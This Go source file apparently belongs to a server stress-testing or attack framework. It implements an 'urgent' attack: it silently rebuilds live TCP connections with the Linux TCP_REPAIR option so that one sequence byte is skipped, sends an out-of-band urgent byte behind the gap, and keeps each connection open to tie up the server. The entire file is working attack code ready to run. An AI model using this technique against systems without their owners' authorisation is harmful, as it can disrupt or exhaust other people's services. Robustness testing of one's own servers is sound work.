package attack

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func urgentBytes() Attack {
	return Attack{
		Name: "urgent", What: "sends an urgent byte behind a byte that never comes",
		Unit: "bytes", Needs: "CAP_NET_ADMIN, for TCP_REPAIR",
		Own: Bounds{For: 3 * time.Second, Units: 2, Connections: 2, Rate: -1},
		run: func(a *assault) error {
			return a.workers(func() error {
				l, err := a.asked()
				if err != nil {
					return err
				}
				c, err := skipByte(l)
				if err != nil {
					return err
				}
				defer c.Close()
				if !a.next(1) {
					return nil
				}
				if err := urgent(c); err != nil {
					return err
				}
				a.count(func(d *Did) { d.Sent++ })
				<-a.ctx.Done()
				return nil
			})
		},
	}
}

// asked is a connection with a whole request behind it, whose answer has come, so
// that nothing is under way on it.
func (a *assault) asked() (net.Conn, error) {
	c, err := a.dial()
	if err != nil {
		return nil, err
	}
	defer ends(a, c)()
	if _, err := c.Write([]byte(root)); err != nil {
		_ = c.Close()
		return nil, err
	}
	b := make([]byte, 16<<10)
	n, err := c.Read(b) // the answer to this is shorter than a segment
	if err != nil {
		_ = c.Close()
		return nil, err
	}
	a.count(func(d *Did) {
		d.Sent += int64(len(root))
		d.Received += int64(n)
		new(statuses).count(b[:n], d.Answers)
	})
	return c, nil
}

// The values of TCP_REPAIR_QUEUE (linux/tcp.h).
const (
	receiveQueue = 1
	sendQueue    = 2
)

// skipByte puts in the place of a connection one whose next byte is numbered as if
// another one had gone before. The peer sees nothing of it: a socket under repair
// is closed, and connected, without a word (TCP_REPAIR, made for moving processes
// from machine to machine). It closes c.
func skipByte(c net.Conn) (net.Conn, error) {
	from, to, sent, received, err := dismantle(c)
	if err != nil {
		return nil, err
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return nil, err
	}
	file := os.NewFile(uintptr(fd), "repaired")
	defer file.Close()
	err = errors.Join(
		unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1),
		unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_REPAIR, 1),
		setQueue(fd, sendQueue, sent+1), setQueue(fd, receiveQueue, received),
		unix.Bind(fd, from), unix.Connect(fd, to), setWindow(fd, received),
		unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_REPAIR, 0),
	)
	if err != nil {
		return nil, fmt.Errorf("a connection under repair: %w", err)
	}
	repaired, err := net.FileConn(file)
	if err != nil {
		return nil, err
	}
	// An orderly end would be behind the hole, and never seen.
	return repaired, repaired.(*net.TCPConn).SetLinger(0)
}

// dismantle closes a connection without a word, and says between whom and where it
// was.
func dismantle(c net.Conn) (from, to unix.Sockaddr, sent, received int, err error) {
	defer c.Close()
	from, err1 := sockaddr(c.LocalAddr())
	to, err2 := sockaddr(c.RemoteAddr())
	if err := errors.Join(err1, err2); err != nil {
		return nil, nil, 0, 0, err
	}
	err = control(c, func(fd int) (err error) {
		if err = unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_REPAIR, 1); err != nil {
			if errors.Is(err, unix.EPERM) {
				err = fmt.Errorf("%w: TCP_REPAIR needs CAP_NET_ADMIN", ErrNotAllowed)
			}
			return err
		}
		if sent, err = queue(fd, sendQueue); err != nil {
			return err
		}
		received, err = queue(fd, receiveQueue)
		return err
	})
	return from, to, sent, received, err
}

// sockaddr is an IPv4 address as the kernel takes it.
func sockaddr(a net.Addr) (unix.Sockaddr, error) {
	at, err := netip.ParseAddrPort(a.String())
	if err != nil || !at.Addr().Unmap().Is4() {
		return nil, fmt.Errorf("%s is no address of IPv4", a)
	}
	return &unix.SockaddrInet4{Port: int(at.Port()), Addr: at.Addr().Unmap().As4()}, nil
}

// queue is the number of the next byte of a queue of a socket under repair.
func queue(fd, which int) (int, error) {
	if err := unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_REPAIR_QUEUE, which); err != nil {
		return 0, err
	}
	return unix.GetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_QUEUE_SEQ)
}

func setQueue(fd, which, next int) error {
	return errors.Join(
		unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_REPAIR_QUEUE, which),
		unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_QUEUE_SEQ, int(uint32(next))),
	)
}

// repairWindow is TCP_REPAIR_WINDOW (linux/tcp.h).
const repairWindow = 29

// setWindow opens the windows of a socket under repair, so that it need not be told
// by the peer, whose words are about the byte that is left out.
func setWindow(fd, received int) error {
	const most = 1<<16 - 1
	var b []byte
	for _, v := range []uint32{uint32(received), most, most, most, uint32(received)} {
		b = binary.NativeEndian.AppendUint32(b, v)
	}
	return unix.SetsockoptString(fd, unix.IPPROTO_TCP, repairWindow, string(b))
}

// urgent sends one urgent byte.
func urgent(c net.Conn) error {
	return control(c, func(fd int) error {
		return unix.Sendto(fd, []byte{'!'}, unix.MSG_OOB, nil)
	})
}

// control does something with a connection's descriptor.
func control(c net.Conn, do func(fd int) error) error {
	s, ok := c.(syscall.Conn)
	if !ok {
		return errors.New("the connection has no descriptor")
	}
	raw, err := s.SyscallConn()
	if err != nil {
		return err
	}
	return onDescriptor(raw, do)
}
